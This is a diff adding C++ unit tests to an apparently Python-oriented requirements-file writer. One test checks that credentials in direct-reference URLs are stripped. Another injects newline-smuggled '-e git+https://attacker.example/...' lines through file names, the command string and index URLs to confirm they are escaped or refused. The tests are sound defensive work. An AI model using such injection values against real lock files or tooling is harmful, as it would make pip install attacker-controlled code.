@@ -235,6 +235,18 @@ TEST(RequirementsWriter, DirectReferencesAndEditables) {
       << out;
 }
 
+// Nor the password of a direct reference (the -r file it came from is named redacted by the parser).
+TEST(RequirementsWriter, DirectReferenceCredentialsAreNotWritten) {
+  Resolution r = sample_resolution();
+  r.pins[0].direct_url = "https://user:s3cret@files.example/certbundle-2024.2.2-py3-none-any.whl";
+  r.pins[1].direct_url = "https://${TOKEN}@files.example/x.whl";
+  const std::string out = write_requirements(r, sample_context());
+  EXPECT_EQ(out.find("s3cret"), std::string::npos) << out;
+  EXPECT_NE(out.find("certbundle @ https://files.example/certbundle-2024.2.2-py3-none-any.whl\n"), std::string::npos)
+      << out;
+  EXPECT_NE(out.find(" @ https://${TOKEN}@files.example/x.whl\n"), std::string::npos) << out;
+}
+
 TEST(RequirementsWriter, DeterministicWhateverThePinOrder) {
   Resolution a = sample_resolution();
   Resolution b = a;
@@ -316,6 +328,42 @@ TEST(RequirementsWriter, ChosenUnsafePackages) {
             "    # via httpkit\n"
             "pysocks-lite==1.7.1\n"
             "    # via httpkit\n");
+}
+
+// Issue 19 defect 14: a newline in a -r file name injected uncommented lines into the header and the
+// "# via" lines. Everything pip would split a line at is escaped in comments.
+TEST(RequirementsWriter, NamesFromInputStayInTheirComment) {
+  Resolution r = sample_resolution();
+  for (Pin& p : r.pins)
+    for (std::string& v : p.via)
+      if (v == "-r requirements.in") v = "-r evil\n-e git+https://attacker.example/x.git#egg=x\r\u0085\u2028.in";
+  LockContext c = sample_context();
+  c.command = "thoth lock -r 'evil\n-e git+https://attacker.example/x.git#egg=x\x1b.in'";
+  for (auto style : {LockContext::AnnotationStyle::split, LockContext::AnnotationStyle::line}) {
+    c.annotation_style = style;
+    std::string out = write_requirements(r, c);
+    std::size_t start = 0;
+    while (start < out.size()) {
+      std::size_t end = out.find('\n', start);
+      std::string line = out.substr(start, end - start);
+      start = end + 1;
+      // Whatever the input injected is after a '#' on its line.
+      if (line.find("attacker") != std::string::npos) {
+        EXPECT_LT(line.find('#'), line.find("attacker")) << line;
+      }
+      EXPECT_EQ(line.find('\r'), std::string::npos) << line;
+      EXPECT_EQ(line.find("\xC2\x85"), std::string::npos) << line;
+      EXPECT_EQ(line.find("\xE2\x80\xA8"), std::string::npos) << line;
+    }
+    EXPECT_NE(out.find("#    thoth lock -r 'evil\\n-e git+https://attacker.example/x.git#egg=x\\x1b.in'\n"),
+              std::string::npos)
+        << out;
+    EXPECT_NE(out.find("-r evil\\n-e git+https://attacker.example/x.git#egg=x\\r\\u0085\\u2028.in"), std::string::npos)
+        << out;
+  }
+  // Option lines are not comments: a line break there is refused, not written.
+  c.index.extra_index_urls = {"https://x.example/simple\n-e git+https://attacker.example/x.git"};
+  EXPECT_THROW(write_requirements(r, c), LockError);
 }
 
 }  // namespace
